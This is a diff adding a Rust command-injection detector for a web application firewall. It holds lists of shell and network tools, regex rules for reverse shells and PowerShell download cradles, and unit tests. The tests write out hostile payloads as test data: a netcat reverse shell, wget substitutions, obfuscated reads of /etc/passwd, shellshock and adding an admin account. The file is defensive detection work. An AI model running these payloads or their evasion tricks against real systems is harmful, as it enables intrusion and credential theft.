@@ -1,0 +1,867 @@
+//! Command injection: a small shell-syntax scanner, not a keyword list.
+//!
+//! The scanner splits the decoded value into command positions (start of input, after `;`, `|`,
+//! `&`, `&&`, `||`, newline, backtick, `$(`, `<(`, `(`, `{`), cleans each command word the way a
+//! shell would (quotes, backslashes, `$@`, `${IFS}`, globs, paths, `.exe`) and checks it against
+//! known Unix and Windows commands. Common English words that are also commands (`cat`, `find`,
+//! `date`) need shell-like evidence around them (an option, a path, a redirection, end of input)
+//! so prose such as "black & white; more later" stays clean. Regex rules cover shellshock,
+//! reverse-shell idioms, Windows interpreters and template injection.
+
+use std::collections::HashSet;
+
+use super::{Patterns, Sink};
+use crate::normalise::Variants;
+use crate::rules::*;
+use crate::settings::WafError;
+
+/// Commands that are rarely plain words: a separator followed by one of these is enough.
+const STRONG_COMMANDS: &[&str] = &[
+    "adduser",
+    "ansible",
+    "ansible-console",
+    "ansible-galaxy",
+    "ansible-playbook",
+    "apt-get",
+    "awk",
+    "base32",
+    "base64",
+    "bash",
+    "bitsadmin",
+    "busybox",
+    "bzcat",
+    "bzip2",
+    "capsh",
+    "certutil",
+    "chattr",
+    "chgrp",
+    "chmod",
+    "chown",
+    "chpasswd",
+    "chroot",
+    "cmd",
+    "cpulimit",
+    "crontab",
+    "cscript",
+    "csh",
+    "curl",
+    "dash",
+    "deluser",
+    "dmesg",
+    "docker",
+    "egrep",
+    "fgrep",
+    "fping",
+    "gawk",
+    "gcc",
+    "gdb",
+    "getfacl",
+    "groupadd",
+    "gunzip",
+    "gzip",
+    "hexdump",
+    "hostname",
+    "icacls",
+    "ifconfig",
+    "insmod",
+    "ipconfig",
+    "iptables",
+    "irb",
+    "jjs",
+    "journalctl",
+    "jrunscript",
+    "ksh",
+    "kubectl",
+    "lastlog",
+    "lftp",
+    "lsmod",
+    "lsof",
+    "ltrace",
+    "lzcat",
+    "mkfifo",
+    "mknod",
+    "modprobe",
+    "mshta",
+    "msiexec",
+    "mysql",
+    "nc",
+    "ncat",
+    "netcat",
+    "netsh",
+    "netstat",
+    "nltest",
+    "nmap",
+    "nohup",
+    "nsenter",
+    "nslookup",
+    "openssl",
+    "passwd",
+    "perf",
+    "perl",
+    "pgrep",
+    "php",
+    "php-cgi",
+    "pip",
+    "pip3",
+    "pkexec",
+    "pkill",
+    "podman",
+    "powershell",
+    "printenv",
+    "psql",
+    "pwsh",
+    "python",
+    "python2",
+    "python3",
+    "rcp",
+    "reg",
+    "regsvr32",
+    "rm",
+    "rmdir",
+    "rmt",
+    "rmt-tar",
+    "rsync",
+    "runc",
+    "rundll32",
+    "schtasks",
+    "scp",
+    "sed",
+    "setsid",
+    "sftp",
+    "sh",
+    "socat",
+    "sqlite3",
+    "ssh",
+    "strace",
+    "sudo",
+    "systemctl",
+    "systeminfo",
+    "taskkill",
+    "tasklist",
+    "tclsh",
+    "tcpdump",
+    "tcsh",
+    "telnet",
+    "tftp",
+    "traceroute",
+    "tracert",
+    "tshark",
+    "uname",
+    "unshare",
+    "useradd",
+    "userdel",
+    "usermod",
+    "vipw",
+    "visudo",
+    "wget",
+    "whoami",
+    "wmic",
+    "wscript",
+    "xargs",
+    "xterm",
+    "xxd",
+    "xzcat",
+    "zcat",
+    "zsh",
+    "zstd",
+    "zstdcat",
+];
+
+/// Commands that are also ordinary words (or very short): they need shell-like evidence.
+const WEAK_COMMANDS: &[&str] = &[
+    "arp", "cat", "cd", "chdir", "cmp", "cp", "cut", "date", "dd", "del", "df", "diff", "dig",
+    "dir", "du", "echo", "env", "eval", "exec", "expr", "file", "find", "finger", "ftp", "gem",
+    "git", "grep", "groups", "head", "history", "host", "id", "ip", "java", "kill", "killall",
+    "last", "less", "ln", "ls", "lua", "mail", "make", "mkdir", "more", "mount", "mv", "net", "nl",
+    "node", "npm", "od", "ping", "printf", "ps", "pwd", "rev", "route", "ruby", "sc", "service",
+    "set", "sleep", "sort", "source", "stat", "strings", "su", "tac", "tail", "tar", "tee", "time",
+    "timeout", "touch", "tr", "type", "uniq", "unzip", "ver", "vi", "vim", "wc", "which", "who",
+    "xcopy", "zip",
+];
+
+/// Commands that are an attack even with nothing around them (`whoami` as a value).
+const ALONE_COMMANDS: &[&str] = &[
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "printenv",
+    "systeminfo",
+    "tasklist",
+    "uname",
+    "whoami",
+];
+
+/// Words that may precede the real command (`sudo id`, `nohup nc …`, `env X=1 sh`).
+const PREFIX_WORDS: &[&str] = &[
+    "builtin", "command", "doas", "env", "exec", "nice", "nohup", "sudo", "time", "timeout",
+    "xargs",
+];
+
+/// Paths worth matching against globbed tokens (`/e??/p?ss*`).
+const GLOB_TARGETS: &[&str] = &[
+    "/bin/bash",
+    "/bin/busybox",
+    "/bin/cat",
+    "/bin/dash",
+    "/bin/ls",
+    "/bin/nc",
+    "/bin/netcat",
+    "/bin/sh",
+    "/dev/tcp",
+    "/etc/group",
+    "/etc/hosts",
+    "/etc/issue",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/sudoers",
+    "/proc/self/environ",
+    "/usr/bin/curl",
+    "/usr/bin/env",
+    "/usr/bin/id",
+    "/usr/bin/nc",
+    "/usr/bin/perl",
+    "/usr/bin/python",
+    "/usr/bin/wget",
+    "/usr/bin/whoami",
+];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Sep {
+    /// Start of the value.
+    Start,
+    /// `;`, `|`, `&`: chaining that also appears in prose.
+    Weak,
+    /// `(`, `{`: grouping, common in prose and addresses (`Roma (RM)`).
+    Group,
+    /// Newline: common in multi-line text, needs the most evidence.
+    Newline,
+    /// `&&`, `||`: chaining that prose rarely has.
+    Chain,
+    /// Backtick, `$(`, `<(`, `>(`: command substitution.
+    Substitution,
+}
+
+pub(crate) struct Rce {
+    strong: HashSet<&'static str>,
+    weak: HashSet<&'static str>,
+    patterns: Patterns,
+    header_patterns: Patterns,
+}
+
+impl Rce {
+    pub(crate) fn new() -> Result<Self, WafError> {
+        let patterns = Patterns::new(&[
+            (RCE_SHELLSHOCK, r"^\s*\(\s*\)\s*\{"),
+            (RCE_SHELLSHOCK, r"\(\s*\)\s*\{\s*:?\s*;\s*\}\s*;"),
+            (RCE_SUBSTITUTION, r"\$\{?ifs\b"),
+            (RCE_SUBSTITUTION, r"/dev/(?:tcp|udp)/"),
+            (
+                RCE_SUBSTITUTION,
+                r"\bbash\s+-[a-z]*i\b|\bsh\s+-c\s|\bmkfifo\s|\bnc(?:at)?\s[^;|&\n]{0,80}\s-[a-z]*[ec]\b",
+            ),
+            (
+                RCE_SUBSTITUTION,
+                r"\b(?:python[23]?|perl|ruby|php|node)\s+-[a-z]*[ecr]\s+['\x22]",
+            ),
+            (RCE_WINDOWS, r"\bcmd(?:\.exe)?\s*/[ckr]\b|\bcmd\.exe\b"),
+            (
+                RCE_WINDOWS,
+                r"\b(?:powershell|pwsh)(?:\.exe)?\s+(?:[^\n]{0,80}\s)?-(?:c|command|e|ec|enc|encodedcommand|nop|noprofile|w|windowstyle|executionpolicy|ep|file)\b",
+            ),
+            (
+                RCE_WINDOWS,
+                r"\b(?:invoke-expression|invoke-webrequest|downloadstring|downloadfile|start-process|new-object\s+(?:system\.)?net\.webclient|iex\s*\()",
+            ),
+            (
+                RCE_WINDOWS,
+                r"(?:^|[;&|])\s*net1?\s+(?:user|localgroup|group|share|view|use|accounts|session|config|start|stop)\b",
+            ),
+            (
+                RCE_WINDOWS_BATCH,
+                r"\bfor\s+(?:/[dflr]\s+(?:\x22[^\x22]{0,80}\x22\s+|[^\s%]{1,80}\s+)?)?%%?~?[a-z]\s+in\s*\(",
+            ),
+            (
+                RCE_WINDOWS_BATCH,
+                r"\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s|defined\s|errorlevel\s+[0-9]|cmdextversion\s|\x22[^\x22]{0,80}\x22\s*(?:==|(?:equ|neq|lss|leq|gtr|geq)\s)|%[^%\s]{1,40}%\s*(?:==|(?:equ|neq|lss|leq|gtr|geq)\s)|[^\s]{1,40}\s*==\s*[^\s]+\s+(?:\(|echo|goto|call|set|exit|del|copy|start|cmd)\b)",
+            ),
+            (
+                RCE_WINDOWS,
+                r"%(?:comspec|systemroot|windir|programfiles|appdata|temp|userprofile)%",
+            ),
+            (
+                RCE_SHELL_VARIABLE,
+                r"\$\{[a-z_][a-z0-9_]*(?:[:#%/^,][^}]{0,40})?\}|\$(?:home|path|user|shell|pwd|random|hostname|bash_version|ps1)\b|@\{\s*\[",
+            ),
+            (
+                RCE_SHELL_VARIABLE,
+                r"(?:^|\s)[0-9]?>{1,2}\s*/(?:tmp|dev|etc|var|home)/|(?:^|\s)<\s*/(?:etc|proc|dev)/",
+            ),
+            (
+                RCE_SSTI,
+                r"__(?:class|mro|subclasses|globals|builtins|import|init|base|bases|getattribute|reduce|dict)__",
+            ),
+            (
+                RCE_SSTI,
+                r"\{\{[^}]{0,120}\b(?:config|self|request|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|range\.constructor)\b[^}]{0,120}\}\}",
+            ),
+            (
+                RCE_SSTI,
+                r"\{%\s*(?:import|include|extends|set|for|macro|call|filter|exec|debug|raw|load|module)\b[^%]{0,200}%\}",
+            ),
+            (
+                RCE_SSTI,
+                r"<#assign\b|freemarker\.template|\?new\s*\(|#set\s*\(\s*\$|\$class\.inspect|\.getclass\(\)\.forname",
+            ),
+            (
+                RCE_SSTI,
+                r"<!--\s*#\s*(?:exec|include|echo|set|config|fsize|flastmod|printenv)\b",
+            ),
+            (RCE_SSTI_LOOSE, r"<%=?[^%]{1,200}%>"),
+            (
+                RCE_SSTI_LOOSE,
+                r"\{\{[^}]{0,200}[*+/(|-][^}]{0,200}\}\}|\{\{\s*[a-z_][a-z0-9_.]*\s*\}\}",
+            ),
+            (
+                RCE_SSTI_LOOSE,
+                r"[$#]\{\s*[0-9]+\s*[*+/-]\s*[0-9]+\s*\}|\$\{\{|\[\[\s*\$\{",
+            ),
+        ])?;
+        let header_patterns = Patterns::new(&[
+            (RCE_SHELLSHOCK, r"^\s*\(\s*\)\s*\{"),
+            (RCE_SHELLSHOCK, r"\(\s*\)\s*\{\s*:?\s*;\s*\}\s*;"),
+        ])?;
+        Ok(Self {
+            strong: STRONG_COMMANDS.iter().copied().collect(),
+            weak: WEAK_COMMANDS.iter().copied().collect(),
+            patterns,
+            header_patterns,
+        })
+    }
+
+    /// `values` is true for argument values (where a leading bare command is worth a look at
+    /// higher paranoia); false for names, paths and free-text headers.
+    pub(crate) fn scan(&self, v: &Variants, sink: &mut Sink<'_>, values: bool) {
+        self.patterns.scan(&v.lower, sink);
+        if sink.wants(RCE_CHAINED_COMMAND)
+            || sink.wants(RCE_SUBSTITUTION)
+            || sink.wants(RCE_OBFUSCATED_COMMAND)
+            || sink.wants(RCE_GLOB_PATH)
+            || sink.wants(RCE_BRACE_EXPANSION)
+            || (values && (sink.wants(RCE_LEADING_COMMAND) || sink.wants(RCE_LEADING_LOOSE)))
+        {
+            let text = if v.lower.contains("$ifs") || v.lower.contains("${ifs}") {
+                std::borrow::Cow::Owned(v.lower.replace("${ifs}", " ").replace("$ifs", " "))
+            } else {
+                std::borrow::Cow::Borrowed(v.lower.as_str())
+            };
+            self.shell_scan(&text, sink, values);
+        }
+    }
+
+    pub(crate) fn scan_header(&self, v: &Variants, sink: &mut Sink<'_>) {
+        self.header_patterns.scan(&v.lower, sink);
+    }
+
+    pub(crate) fn scan_filename(&self, v: &Variants, sink: &mut Sink<'_>) {
+        let name: String = v.lower.chars().filter(|c| !c.is_whitespace()).collect();
+        let base = name.rsplit(['/', '\\']).next().unwrap_or("");
+        let script = [
+            ".htaccess",
+            ".htpasswd",
+            ".user.ini",
+            "web.config",
+            ".jsp",
+            ".jspx",
+            ".asp",
+            ".aspx",
+            ".ashx",
+            ".asmx",
+            ".shtml",
+            ".cgi",
+            ".pl",
+            ".sh",
+            ".bash",
+            ".py",
+            ".exe",
+            ".bat",
+            ".cmd",
+            ".ps1",
+            ".vbs",
+            ".war",
+            ".jar",
+        ];
+        if script.iter().any(|s| base.ends_with(s)) {
+            sink.hit(RCE_UPLOAD_SCRIPT, base, 0);
+        }
+    }
+
+    fn is_command(&self, word: &str) -> Option<bool> {
+        if self.strong.contains(word) {
+            return Some(true);
+        }
+        if self.weak.contains(word) {
+            return Some(false);
+        }
+        None
+    }
+
+    /// Glob words (`ca?`, `/???/n?`) that match a known command; needs two literal characters
+    /// so a lone `??` is not a command.
+    fn glob_command(&self, word: &str) -> bool {
+        let literal = word.bytes().filter(|b| b.is_ascii_alphanumeric()).count();
+        if literal < 2 || word.len() > 32 {
+            return false;
+        }
+        self.strong
+            .iter()
+            .chain(self.weak.iter())
+            .any(|c| c.len() >= 2 && glob_match(word.as_bytes(), c.as_bytes()))
+    }
+
+    fn shell_scan(&self, text: &str, sink: &mut Sink<'_>, values: bool) {
+        let b = text.as_bytes();
+        let mut i = 0;
+        let mut sep = Sep::Start;
+        let mut expect_cmd = true;
+        let mut words = 0;
+        let mut sep_end = 0;
+        while i < b.len() && words < 512 {
+            let c = b[i];
+            if c == b' ' || c == b'\t' || c == 0x0B || c == 0x0C {
+                i += 1;
+                continue;
+            }
+            if let Some((s, len)) = separator(b, i) {
+                // Keep the strongest separator seen since the last word.
+                sep = if expect_cmd && sep != Sep::Start {
+                    strongest(sep, s)
+                } else {
+                    s
+                };
+                expect_cmd = true;
+                i += len;
+                sep_end = i;
+                continue;
+            }
+            // A word: up to whitespace or a separator.
+            let start = i;
+            while i < b.len()
+                && !matches!(b[i], b' ' | b'\t' | 0x0B | 0x0C)
+                && separator(b, i).is_none()
+            {
+                i += 1;
+            }
+            words += 1;
+            let raw = &text[start..i];
+            self.glob_path(raw, text, start, sink);
+            if !expect_cmd {
+                continue;
+            }
+            let clean = clean_word(raw);
+            if clean.is_empty() {
+                continue;
+            }
+            if is_assignment(&clean) {
+                continue;
+            }
+            if PREFIX_WORDS.contains(&clean.as_str()) {
+                if raw_is_obfuscated(raw) {
+                    sink.hit(RCE_OBFUSCATED_COMMAND, text, start);
+                }
+                continue;
+            }
+            expect_cmd = false;
+            let brace = raw.starts_with('{') || (start > 0 && b[start - 1] == b'{');
+            let (candidate, brace_list) = match clean.split_once(',') {
+                Some((first, _)) if brace => (first.to_owned(), true),
+                _ => (clean.clone(), false),
+            };
+            let kind = self.is_command(&candidate);
+            let globbed = kind.is_none()
+                && candidate.contains(['?', '*', '['])
+                && self.glob_command(&candidate);
+            let Some(strong) = kind.or(globbed.then_some(true)) else {
+                // An unknown word glued to a separator and followed by an option or a path
+                // (`;perf --version`, `|foo /etc`) is still shell syntax.
+                let glued =
+                    sep_end == start && matches!(sep, Sep::Weak | Sep::Chain | Sep::Substitution);
+                let word_like = candidate.len() >= 2
+                    && candidate
+                        .bytes()
+                        .next()
+                        .is_some_and(|c| c.is_ascii_alphabetic())
+                    && candidate
+                        .bytes()
+                        .all(|c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_' || c == b'.');
+                if glued && word_like && evidence_after(b, i) == Evidence::Argument {
+                    sink.hit(RCE_CHAINED_COMMAND, text, start);
+                }
+                continue;
+            };
+            let obfuscated = globbed || raw_is_obfuscated(raw);
+            if brace_list {
+                sink.hit(RCE_BRACE_EXPANSION, text, start);
+            }
+            if obfuscated {
+                sink.hit(RCE_OBFUSCATED_COMMAND, text, start);
+            }
+            let evidence = || evidence_after(b, i);
+            match sep {
+                Sep::Substitution => sink.hit(RCE_SUBSTITUTION, text, start),
+                Sep::Chain => sink.hit(RCE_CHAINED_COMMAND, text, start),
+                Sep::Weak if strong || evidence() != Evidence::None => {
+                    sink.hit(RCE_CHAINED_COMMAND, text, start)
+                }
+                Sep::Newline
+                    if evidence() == Evidence::Argument
+                        || (strong && evidence() != Evidence::None) =>
+                {
+                    sink.hit(RCE_CHAINED_COMMAND, text, start)
+                }
+                Sep::Group if evidence() == Evidence::Argument => {
+                    sink.hit(RCE_CHAINED_COMMAND, text, start)
+                }
+                Sep::Start if values => {
+                    let ev = evidence();
+                    if strong
+                        && (ev == Evidence::Argument
+                            || (ev == Evidence::End
+                                && ALONE_COMMANDS.contains(&candidate.as_str())))
+                    {
+                        sink.hit(RCE_LEADING_COMMAND, text, start);
+                    } else if ev == Evidence::Argument || (strong && ev == Evidence::End) {
+                        sink.hit(RCE_LEADING_LOOSE, text, start);
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+
+    /// Tokens like `/e??/pa*wd` or `/bin/ca[t]` that a shell would expand to a sensitive path.
+    fn glob_path(&self, raw: &str, text: &str, start: usize, sink: &mut Sink<'_>) {
+        if !raw.contains(['?', '*', '['])
+            || !raw.contains('/')
+            || raw.len() > 64
+            || !sink.wants(RCE_GLOB_PATH)
+        {
+            return;
+        }
+        let cleaned: String = raw
+            .chars()
+            .filter(|c| !matches!(c, '\'' | '"' | '\\'))
+            .collect();
+        let Some(slash) = cleaned.find('/') else {
+            return;
+        };
+        let path = &cleaned[slash..];
+        if GLOB_TARGETS
+            .iter()
+            .any(|t| glob_match(path.as_bytes(), t.as_bytes()))
+        {
+            sink.hit(RCE_GLOB_PATH, text, start);
+        }
+    }
+}
+
+fn strongest(a: Sep, b: Sep) -> Sep {
+    let rank = |s: Sep| match s {
+        Sep::Start => 0,
+        Sep::Newline | Sep::Group => 1,
+        Sep::Weak => 2,
+        Sep::Chain => 3,
+        Sep::Substitution => 4,
+    };
+    if rank(a) >= rank(b) { a } else { b }
+}
+
+/// The separator starting at `i`, with its length.
+fn separator(b: &[u8], i: usize) -> Option<(Sep, usize)> {
+    let next = b.get(i + 1).copied();
+    match b[i] {
+        b';' => Some((Sep::Weak, 1)),
+        b'(' | b')' | b'{' | b'}' => Some((Sep::Group, 1)),
+        b'\n' | b'\r' => Some((Sep::Newline, 1)),
+        b'`' => Some((Sep::Substitution, 1)),
+        b'&' if next == Some(b'&') => Some((Sep::Chain, 2)),
+        b'|' if next == Some(b'|') => Some((Sep::Chain, 2)),
+        b'&' | b'|' => Some((Sep::Weak, 1)),
+        b'$' if next == Some(b'(') => Some((Sep::Substitution, 2)),
+        b'<' | b'>' if next == Some(b'(') => Some((Sep::Substitution, 2)),
+        _ => None,
+    }
+}
+
+#[derive(Debug, PartialEq, Eq)]
+enum Evidence {
+    None,
+    /// End of input or another separator right after the command.
+    End,
+    /// An option, path, variable, redirection or quoted argument follows.
+    Argument,
+}
+
+fn evidence_after(b: &[u8], mut i: usize) -> Evidence {
+    while i < b.len() && matches!(b[i], b' ' | b'\t') {
+        i += 1;
+    }
+    let Some(&c) = b.get(i) else {
+        return Evidence::End;
+    };
+    if separator(b, i).is_some() {
+        return Evidence::End;
+    }
+    match c {
+        b'-' | b'/' | b'~' | b'$' | b'>' | b'<' | b'*' | b'\\' => Evidence::Argument,
+        b'.' if matches!(b.get(i + 1), Some(b'/' | b'.')) => Evidence::Argument,
+        b'a'..=b'z'
+            if b[i..]
+                .iter()
+                .take(12)
+                .position(|&c| c == b':')
+                .is_some_and(|p| b[i..].get(p + 1..p + 3) == Some(b"//")) =>
+        {
+            Evidence::Argument
+        }
+        b'a'..=b'z'
+            if b.get(i + 1) == Some(&b':') && matches!(b.get(i + 2), Some(b'/' | b'\\')) =>
+        {
+            Evidence::Argument
+        }
+        _ => Evidence::None,
+    }
+}
+
+/// Removes what a shell would remove from a command word: quotes, backslashes, `$@`, `$*`,
+/// positional `$1`, empty `${}`; strips a directory (`/usr/bin/id`, `c:\windows\…\cmd.exe`) and
+/// Windows executable suffixes.
+fn clean_word(raw: &str) -> String {
+    let mut out = String::with_capacity(raw.len());
+    let mut chars = raw.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' | '"' | '\\' | '^' => {}
+            '$' => match chars.peek() {
+                Some('@' | '*' | '0'..='9') => {
+                    chars.next();
+                }
+                Some('{') => {
+                    // `${}` and `${x}` with an unknown x are dropped.
+                    let mut depth = 0;
+                    for n in chars.by_ref() {
+                        if n == '{' {
+                            depth += 1;
+                        } else if n == '}' {
+                            depth -= 1;
+                            if depth == 0 {
+                                break;
+                            }
+                        }
+                    }
+                }
+                _ => out.push(c),
+            },
+            _ => out.push(c),
+        }
+    }
+    let base = out.rsplit('/').next().unwrap_or("");
+    let base = base.trim_matches(|c: char| c == '{' || c == '}');
+    let base = base
+        .strip_suffix(".exe")
+        .or_else(|| base.strip_suffix(".com"))
+        .unwrap_or(base);
+    base.to_owned()
+}
+
+fn raw_is_obfuscated(raw: &str) -> bool {
+    let quotes = raw.chars().filter(|c| matches!(c, '\'' | '"')).count();
+    let letters_inside = raw.trim_matches(|c: char| !c.is_ascii_alphanumeric());
+    (quotes >= 2 && letters_inside.contains(['\'', '"']))
+        || letters_inside.contains('\\')
+        || raw.contains("$@")
+        || raw.contains("${")
+        || letters_inside.contains('^')
+}
+
+fn is_assignment(word: &str) -> bool {
+    match word.find('=') {
+        Some(eq) => {
+            eq > 0
+                && word[..eq]
+                    .bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b == b'_')
+        }
+        None => false,
+    }
+}
+
+/// Shell glob match (`?`, `*`, `[abc]`, `[!a]`, `[a-z]`), O(pattern × text) dynamic programming.
+pub(crate) fn glob_match(pat: &[u8], text: &[u8]) -> bool {
+    if pat.len() > 64 || text.len() > 64 {
+        return false;
+    }
+    // prev[j]: pattern consumed so far matches text[..j].
+    let mut prev = vec![false; text.len() + 1];
+    prev[0] = true;
+    let mut p = 0;
+    while p < pat.len() {
+        let mut cur = vec![false; text.len() + 1];
+        let (len, class) = match pat[p] {
+            b'[' => match class_end(pat, p) {
+                Some(end) => (end - p + 1, Some(&pat[p + 1..end])),
+                None => (1, None),
+            },
+            _ => (1, None),
+        };
+        match (pat[p], class) {
+            (b'*', _) => {
+                cur[0] = prev[0];
+                for j in 1..=text.len() {
+                    cur[j] = prev[j] || cur[j - 1];
+                }
+            }
+            (_, Some(set)) => {
+                for j in 1..=text.len() {
+                    cur[j] = prev[j - 1] && class_matches(set, text[j - 1]);
+                }
+            }
+            (c, None) => {
+                for j in 1..=text.len() {
+                    cur[j] = prev[j - 1] && (c == b'?' || c == text[j - 1]);
+                }
+            }
+        }
+        prev = cur;
+        p += len;
+    }
+    prev[text.len()]
+}
+
+fn class_end(pat: &[u8], open: usize) -> Option<usize> {
+    let mut i = open + 1;
+    if matches!(pat.get(i), Some(b'!' | b'^')) {
+        i += 1;
+    }
+    if pat.get(i) == Some(&b']') {
+        i += 1;
+    }
+    pat[i.min(pat.len())..]
+        .iter()
+        .position(|&c| c == b']')
+        .map(|off| i + off)
+}
+
+fn class_matches(set: &[u8], c: u8) -> bool {
+    let (negate, set) = match set.first() {
+        Some(b'!' | b'^') => (true, &set[1..]),
+        _ => (false, set),
+    };
+    let mut found = false;
+    let mut i = 0;
+    while i < set.len() {
+        if i + 2 < set.len() && set[i + 1] == b'-' {
+            found |= (set[i]..=set[i + 2]).contains(&c);
+            i += 3;
+        } else {
+            found |= set[i] == c;
+            i += 1;
+        }
+    }
+    found != negate
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::testing::{families, hits};
+    use crate::extract::Kind;
+
+    #[test]
+    fn command_lists_are_sorted() {
+        for l in [
+            STRONG_COMMANDS,
+            WEAK_COMMANDS,
+            PREFIX_WORDS,
+            GLOB_TARGETS,
+            ALONE_COMMANDS,
+        ] {
+            assert!(
+                l.windows(2).all(|w| w[0] < w[1]),
+                "{:?}",
+                l.windows(2).find(|w| w[0] >= w[1])
+            );
+        }
+    }
+
+    #[test]
+    fn detects_chained_and_obfuscated_commands() {
+        for p in [
+            "127.0.0.1; cat /etc/passwd",
+            "x|id",
+            "foo && whoami",
+            "a`uname -a`",
+            "$(wget http://x/y)",
+            "ti''me sh -c whoami",
+            "c'a't /e't'c/pass'wd'",
+            ";c\\at${IFS}/etc/passwd",
+            "/etc/[!q]asswd",
+            ";/bin/ca? /et*/passwd",
+            "{id,}",
+            "; ls -la",
+            "| dir c:\\",
+            "& net user admin /add",
+            "x; powershell -enc AAAA",
+            "() { :; }; /bin/bash -c id",
+            "1;sleep${IFS}5",
+            "a\nnc -e /bin/sh 10.0.0.1 4444",
+        ] {
+            assert!(families(p).contains(&"rce"), "{p}");
+        }
+    }
+
+    #[test]
+    fn leaves_prose_alone() {
+        for p in [
+            "black & white; more later",
+            "Tom & Jerry; cat lovers welcome",
+            "Q&A | find out more",
+            "Dear team,\nfind attached the report.\nYes, date TBD",
+            "rock'n'roll (time of my life)",
+            "O'Brien & Sons; echo chamber",
+            "C:\\Users\\me\\Documents\\report.docx",
+            "Meet at 10:00; head office",
+            "price: $5 (approx)",
+            "ls",
+            "Vicolo Gaito, 50, Cavenago D'Adda (LO), 00100 Roma (RM)",
+            "Piazza Duomo 1 (MI) (PS)",
+        ] {
+            assert!(
+                !families(p).contains(&"rce"),
+                "{p}: {:?}",
+                hits(Kind::Value, "query:q", p, 1)
+            );
+        }
+    }
+
+    #[test]
+    fn leading_command_only_at_higher_paranoia() {
+        assert!(hits(Kind::Value, "query:q", "cat /etc/hosts", 2).contains(&RCE_LEADING_LOOSE));
+        assert!(!hits(Kind::Value, "query:q", "cat /etc/hosts", 1).contains(&RCE_LEADING_LOOSE));
+        assert!(
+            hits(Kind::Value, "query:q", "wget -q http://x/y", 1).contains(&RCE_LEADING_COMMAND)
+        );
+        assert!(hits(Kind::Value, "query:q", "whoami", 1).contains(&RCE_LEADING_COMMAND));
+        assert!(!hits(Kind::Value, "query:q", "python", 1).contains(&RCE_LEADING_COMMAND));
+    }
+
+    #[test]
+    fn glob_matching() {
+        assert!(glob_match(b"/???/??t", b"/bin/cat"));
+        assert!(glob_match(b"/etc/[!q]asswd", b"/etc/passwd"));
+        assert!(!glob_match(b"/etc/[!p]asswd", b"/etc/passwd"));
+        assert!(glob_match(b"c*t", b"cat"));
+        assert!(glob_match(b"[a-c]at", b"cat"));
+        assert!(!glob_match(b"[", b"c"));
+        assert!(glob_match(b"[", b"["));
+    }
+}
